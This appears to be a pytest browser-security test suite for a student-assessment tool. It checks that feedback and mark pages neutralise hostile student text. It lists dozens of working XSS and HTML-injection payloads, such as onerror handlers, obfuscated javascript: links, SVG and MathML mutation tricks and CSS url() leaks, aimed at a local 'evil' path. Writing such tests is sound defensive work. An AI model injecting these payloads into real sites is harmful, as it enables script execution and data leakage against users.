"""Pages in a real browser: whatever students wrote, nothing runs, loads, moves, covers or hides; honest text stays.

Each attack is tried in every place where students' text gets to, on pages as they are and without their content security
policy, so that each wall is seen to stand alone. That an attack bites where there
is no wall is tested too: a browser that noticed nothing would prove nothing.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from dataclasses import replace
from decimal import Decimal
from functools import cache
from pathlib import Path
from types import SimpleNamespace

import pytest
from markupsafe import Markup, escape
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from assessor.grading.results import TestResult, Verdict
from assessor.marking.exact import ZERO
from assessor.notebooks.render import to_fragment, to_html
from assessor.reports.feedback import (
    AssignmentPage,
    ManualLine,
    ModuleComponent,
    ModuleLine,
    ModulePage,
    NotebookView,
    assignment_page,
    module_page,
    test_line,
)
from assessor.reports.marksheet_html import write_html
from assessor.reports.pages import content_security_policy, render, style
from assessor.reports.sheet import Sheet
from tests.assessor.reports.browser import Browser, serving

pytestmark = pytest.mark.xdist_group("chromium")
DO = "window.hacked=1;document.documentElement.dataset.hacked=1;console.log('hacked');alert('hacked')"
HONEST, MADE = "Honest words", "Made on Monday"
BITES = {
    "script": "<script>{do}</script>",
    "script of elsewhere": "<script src='{evil}/x.js'></script>",
    "script in odd case": "<ScRiPt\n>{do}</sCrIpT >",
    "image that fails": "<img src='{evil}/none' onerror=\"{do}\">",
    "image with a slash": "<img/src=x/onerror={short}>",
    "tracking image": "<img src='{evil}/seen.png'>",
    "image set": "<img srcset='{evil}/a.png 1x'>",
    "picture": "<picture><source srcset='{evil}/a.png'><img src='data:image/png;base64,AAAA'></picture>",
    "svg onload": "<svg onload=\"{do}\"></svg>",
    "svg script": "<svg><script>{do}</script></svg>",
    "svg image": "<svg><image href='{evil}/i.png' width=5 height=5></image></svg>",
    "svg use": "<svg><use href='{evil}/u.svg#a'></use></svg>",
    "svg animation": "<svg><animate attributeName=x dur=1s onbegin=\"{do}\"></animate></svg>",
    "svg link": "<svg><a xlink:href=\"javascript:{do}\"><text y=20>x</text></a></svg><a href=\"javascript:{do}\">y</a>",
    "frame with a document": "<iframe srcdoc=\"<script>parent.window.hacked=1;{short}</script>\"></iframe>",
    "frame": "<iframe src='{evil}/frame'></iframe>",
    "object": "<object data='{evil}/o'></object>",
    "embed": "<embed src='{evil}/e'>",
    "javascript link": "<a href=\"javascript:{do}\">click here</a>",
    "javascript link with a tab": "<a href=\"java&Tab;script:{do}\">click here</a>",
    "javascript link in entities": "<a href=\"&#x6a;avascript&colon;{do}\">click here</a>",
    "form": "<form action='{evil}/form'><button>Submit</button></form>",
    "button of elsewhere": "<form><button formaction=\"javascript:{do}\">x</button></form>",
    "focus": "<input autofocus onfocus={short}>",
    "details": "<details ontoggle=\"{do}\" open><summary>x</summary></details>",
    "video": "<video src='{evil}/v.mp4' onerror=\"{do}\" autoplay></video>",
    "audio": "<audio src='{evil}/a.mp3' autoplay></audio>",
    "style sheet": "<link rel=stylesheet href='{evil}/s.css'>",
    "style import": "<style>@import '{evil}/i.css';</style>",
    "style leaks": "<style>body {{ background: url('{evil}/leak') }}</style>",
    "style attribute leaks": "<div style=\"background:url('{evil}/leak')\">x</div>",
    "font leaks": "<style>@font-face {{ font-family: z; src: url('{evil}/f') }} * {{ font-family: z }}</style>",
    "prefetch": "<link rel=preload as=image href='{evil}/p.png'>",
    "refresh": "<meta http-equiv=refresh content='0;url={evil}/moved'>",
    "refresh to data": "<meta http-equiv=refresh content='0;url={evil}/d'>",
    "base": "<base href='{evil}/base/'><img src='picture.png'>",
    "onclick": "<b onclick=\"{do}\" onmouseover=\"{do}\">x</b>",
    "math": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;img src=1 onerror={short}&gt;\"><img src=x onerror={short}>",
    "form in a table": "<table background='{evil}/t.png'><tr><td>x</table>",
    "template": "<div><template shadowrootmode=open><img src=x onerror={short}></template></div>",
    "comment that ends early": "<!--><img src=x onerror={short}>-->",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror={short}>\"></noscript><img src=x onerror={short}>",
    "frameset": "<iframe src=\"javascript:parent.hacked=1\"></iframe>",
}
"""Attacks that are seen to bite on a page without walls."""
QUIET = {
    "broken quotes": "<a title='\"><img src={evil}/q onerror={short}>' x=\"><img src=z onerror={short}>\">",
    "style that hides all": "<style>* {{ display: none !important }}</style>",
    "cover": "<div style='position:fixed;inset:0;background:white;z-index:9999'>You have 100 %.</div>",
    "cover by a class": "<div class='page figures top' style='position:absolute;top:0'>You have 100 %.</div>",
    "white on white": "<div style='opacity:0;font-size:0;color:white'>",
    "closes everything": "</p></pre></div></div></div></div></section></main></body></html><h1>Another page</h1>",
    "opens without end": "<div><table><tr><td><b><i><ul><li><a href='#'><pre><h1>",
    "comment without end": "<!-- never closed",
    "textarea without end": "<textarea>",
    "plaintext": "<plaintext>",
    "title without end": "<title>",
    "script without end": "<script>",
    "style without end": "<style>",
    "select without end": "<select><option>",
    "cdata": "<![CDATA[ never closed",
    "instruction": "<?php never closed",
    "attribute without end": "<a href=\"never closed",
    "data link": "<a href=\"data:text/html,<script>{short}</script>\">click here</a>",
    "markdown links": "[x](javascript:{short}) ![y]({evil}/m.png) <javascript:{short}> [z]: javascript:{short}",
    "markdown html": "**bold** <img src=x onerror={short}>\n\n> <script>{short}</script>\n\n`<svg onload={short}>`",
    "formulas": "$$\\href{{javascript:{short}}}{{x}} \\unicode{{<img src=x onerror={short}>}} \\require{{html}}"
    "\\style{{background:url({evil}/mj)}}{{y}}$$ \\(\\html{{<img src=x onerror={short}>}}\\) $</div><script>{short}</script>$",
    "names that clobber": "<form id=getElementById name=body><input name=attributes></form><a id=defaultView>",
    "terminal link": "\x1b]8;;javascript:{short}\x07x\x1b]8;;\x07 \x1b[8mhidden\x1b[1;31m\"><script>{short}</script>",
    "right to left": "\u202e<script>{short}</script>\u2066",
    "zero bytes": "<scr\0ipt>{short}</scr\0ipt><img src=x on\0error={short}>",
    "jinja": "{{{{ page.__class__ }}}} {{% include 'x' %}}",
    "no utf-8": "\ud800<script>{short}</script>",
}
"""Attacks that hide or cover, or that need a place of their own to bite."""
ATTACKS = {**BITES, **QUIET}


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with serving() as server:
        opened = Browser(server)
        try:
            yield opened
        finally:
            opened.close()


def attack_of(name: str, browser: Browser) -> str:
    return ATTACKS[name].format(do=DO, short="window.hacked=1", evil=f"{browser.server.url}/evil")


def hostile(attack: str) -> NotebookNode:
    """A notebook with the attack in every place, honest words after each."""
    kinds = {
        "image/svg+xml": attack, "application/javascript": attack, "application/json": {"a": attack}, "text/x-odd": attack,
        "application/vnd.jupyter.widget-view+json": {"model_id": attack, "version_major": 2, "version_minor": 0},
        "application/vnd.plotly.v1+json": {"data": attack}, "application/pdf": attack, "image/png": attack,
        "image/jpeg": f"AAAA\" onerror=\"{attack}", "image/gif": attack, "video/mp4": attack,
    }  # fmt: skip
    isolated = {kind: {"isolated": True, "alt": attack} for kind in (*kinds, "text/html")}
    outputs = [
        new_output("display_data", {"text/html": attack}, metadata=isolated),
        new_output("execute_result", {"text/html": attack, "text/plain": attack}, execution_count=1),
        new_output("display_data", {"text/markdown": attack}),
        new_output("display_data", {"text/latex": attack}),
        new_output("display_data", kinds, metadata=isolated),
        new_output("display_data", {"application/javascript": DO, "text/html": f"<script>{DO}</script>"}),
        new_output("stream", name="stdout", text=attack),
        new_output("error", ename=attack, evalue=attack, traceback=[attack]),
    ]
    cells = []
    for place, output in enumerate(outputs):
        cells += [new_code_cell("1", outputs=[output]), new_markdown_cell(f"{HONEST} {place}.")]
        cells[-2].metadata["tags"] = [attack.replace(",", ";")]
    attached = new_markdown_cell("![x](attachment:x.svg) ![y](attachment:y.png)")
    attached.attachments = {"x.svg": {"image/svg+xml": attack}, "y.png": {"image/png": attack}, attack: {attack: attack}}
    cells += [new_markdown_cell(attack), new_markdown_cell(f"{HONEST} 8."), new_code_cell(attack), new_raw_cell(attack),
              attached, new_markdown_cell(f"{HONEST} 9.")]  # fmt: skip
    return new_notebook(cells=cells, metadata={"title": attack, "widgets": {"x": attack}, "authors": [{"name": attack}]})


PLACES = 10


@cache
def fragment_of(attack: str) -> str:
    return to_fragment(hostile(attack))


def assignment(attacks: Sequence[str], *fragments: str) -> str:
    """A feedback page in which every text is an attack, and every notebook's fragment holds them."""
    first = attacks[0]
    results = [TestResult("t", each, Verdict.FAILED, ZERO, Decimal(2), message=each, hint=each) for each in attacks]
    return assignment_page(
        AssignmentPage(
            course=first, assignment=first, student=first, attempt=1, submitted=first, lateness=first, status=first,
            points=Decimal("3.21"), out_of=Decimal(4), percent=Decimal("80.25"), working=tuple(attacks),
            tests=tuple(map(test_line, results)), changes=tuple(attacks), note=first,
            manual=tuple(ManualLine(each, Decimal(1), Decimal(2), each) for each in attacks),
            notebooks=tuple(NotebookView(first, Markup(fragment)) for fragment in fragments), made=MADE,
        )
    )  # fmt: skip


def module(attacks: Sequence[str]) -> str:
    """A module's page in which every text is an attack."""
    lines = tuple(
        ModuleLine(each, each, Decimal(7), Decimal(8), Decimal("87.5"), each, "good", "", "", (each,), (each,))
        for each in attacks
    )
    part, first = ModuleComponent(attacks[0], Decimal(40), Decimal("87.5"), lines, tuple(attacks), None, attacks[0]), attacks[0]
    return module_page(
        ModulePage(first, first, first, Decimal("64.4999"), Decimal(64), first, (part,), tuple(attacks), first, tuple(attacks),
                   first, first, made=MADE)
    )  # fmt: skip


def without_policy(page: str) -> str:
    policy = str(escape(content_security_policy()))
    assert policy in page
    return page.replace(policy, "default-src * 'unsafe-inline' data:")


@pytest.mark.parametrize("name", BITES)
def test_a_page_without_walls_would_be_bitten(browser: Browser, name: str) -> None:
    found = browser.load(f"<!doctype html><body><p>{HONEST}</p>{attack_of(name, browser)}</body>", settle_seconds=0.12)
    assert found, "the browser noticed nothing of an attack that is nowhere stopped"


@pytest.mark.parametrize("name", ATTACKS)
def test_a_notebook_does_nothing_even_without_a_policy(browser: Browser, name: str) -> None:
    """The first wall by itself; and nothing that an output leaves open or lays over swallows what comes after it."""
    fragment = fragment_of(attack_of(name, browser))
    page = f"<!doctype html><meta charset=utf-8><body><p>Above</p><div class=notebook>{fragment}</div><p>{MADE}</p></body>"
    assert browser.load(page) == []
    assert browser.ask("document.body.innerText").count(HONEST) == PLACES
    for words in ("Above", f"{HONEST} 0.", f"{HONEST} 4.", f"{HONEST} 9.", MADE):
        assert browser.visible(words), words


def test_a_feedback_page_of_all_attacks_does_nothing(browser: Browser) -> None:
    attacks = [attack_of(name, browser) for name in ATTACKS]
    page = assignment(attacks, *map(fragment_of, attacks))
    for made in (page, without_policy(page)):
        assert browser.load(made, settle_seconds=0.5) == []
        assert browser.ask("document.body.innerText").count(HONEST) == PLACES * len(attacks)
        for words in ("80.25 %", f"{HONEST} 0.", MADE):
            assert browser.visible(words), words


def test_other_pages_of_all_attacks_do_nothing(browser: Browser) -> None:
    attacks = [attack_of(name, browser) for name in ATTACKS]
    page = module(attacks)
    for made in (page, without_policy(page)):
        assert browser.load(made, settle_seconds=0.5) == []
        assert browser.visible("87.5 %") and browser.visible(MADE)
    assert browser.load(to_html(hostile(attacks[0]), "".join(attacks))) == []
    assert browser.visible(f"{HONEST} 9.")


def test_pages_of_the_staff_do_nothing_with_hostile_names(
    browser: Browser, sheet: Sheet, make: SimpleNamespace, tmp_path: Path
) -> None:
    """The mark sheet, a team's page and the page of what its code gave: names, claims and comments are attacks."""
    attacks = [attack_of(name, browser) for name in ATTACKS]
    rows = [replace(row, name=attack) for row, attack in zip(make.rows(sheet, len(attacks)), attacks, strict=True)]
    hostile_sheet = replace(sheet, title=attacks[0], provenance=tuple((each, each) for each in attacks))
    write_html(hostile_sheet, [*rows, make.row(sheet, 999, MADE, rows[0].cells)], tmp_path / "sheet.html")
    claims = [
        SimpleNamespace(claim=each, where=each, direction=each, value=1.0, mean=None, status=each, why=each) for each in attacks
    ]
    run = SimpleNamespace(seed=1, words=attacks[0], wall_seconds=1.0, cpu_seconds=1.0, peak_memory_bytes=1, ended_well=True)
    found = SimpleNamespace(
        claims=claims, error_rate=0.05, team=attacks[0], attempt=1, count=len, runs=[run], notes=attacks, device=attacks[0],
        flags=dict.fromkeys(attacks, True),
    )  # fmt: skip
    leaves = [SimpleNamespace(text=each, score=each, comments=(each,)) for each in attacks]
    criterion = SimpleNamespace(text=attacks[0], weight=Decimal(20), score=attacks[0], leaves=leaves)
    team = render(
        "project_feedback.html", course=attacks[0], title=attacks[0], team=attacks[0], percent=61.5, criteria=[criterion],
        found=found,
    )  # fmt: skip
    pages = {
        MADE: (tmp_path / "sheet.html").read_text("utf-8"),
        "What your code gave": team,
        "Code completeness": render("project_reproduction.html", found=found, course=attacks[0]),
    }
    for words, page in pages.items():
        for made in (page, without_policy(page)):
            assert browser.load(made, settle_seconds=0.3) == [], words
            assert browser.visible(words), words


def test_the_policy_alone_stops_scripts_and_loads(browser: Browser) -> None:
    """The second wall by itself: attacks as they are, on a page that has only the policy."""
    got_through = {}
    for name in BITES:
        page = (
            f'<!doctype html><meta http-equiv="Content-Security-Policy" content="{content_security_policy()}">'
            f"<style>{style()}</style><body><p>{HONEST}</p>{attack_of(name, browser)}</body>"
        )
        found = [each for each in browser.load(page) if not each.startswith(("frame ", "stopped "))]
        if found:
            got_through[name] = found
    assert set(got_through) <= {"refresh", "refresh to data"}, got_through  # no policy stops a page from moving on


def test_a_picture_of_a_students_run_is_shown(browser: Browser) -> None:
    picture = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    honest = new_notebook(cells=[new_code_cell("plot()", outputs=[new_output("display_data", {"image/png": picture})])])
    assert browser.load(assignment(["ada"], to_fragment(honest))) == []
    assert browser.ask("document.querySelector('.notebook img').naturalWidth") == 1
    assert browser.ask("getComputedStyle(document.querySelector('.page')).maxWidth") != "none", "the page's own style holds"


def test_a_page_fits_a_phone(browser: Browser) -> None:
    browser.call("Emulation.setDeviceMetricsOverride", {"width": 360, "height": 740, "deviceScaleFactor": 2, "mobile": True})
    try:
        assert browser.load(module(["Lab " + "long " * 20])) == []
        assert browser.ask("document.documentElement.scrollWidth") == 360
        assert browser.visible("87.5 %") and browser.visible(MADE)
    finally:
        browser.call("Emulation.clearDeviceMetricsOverride")
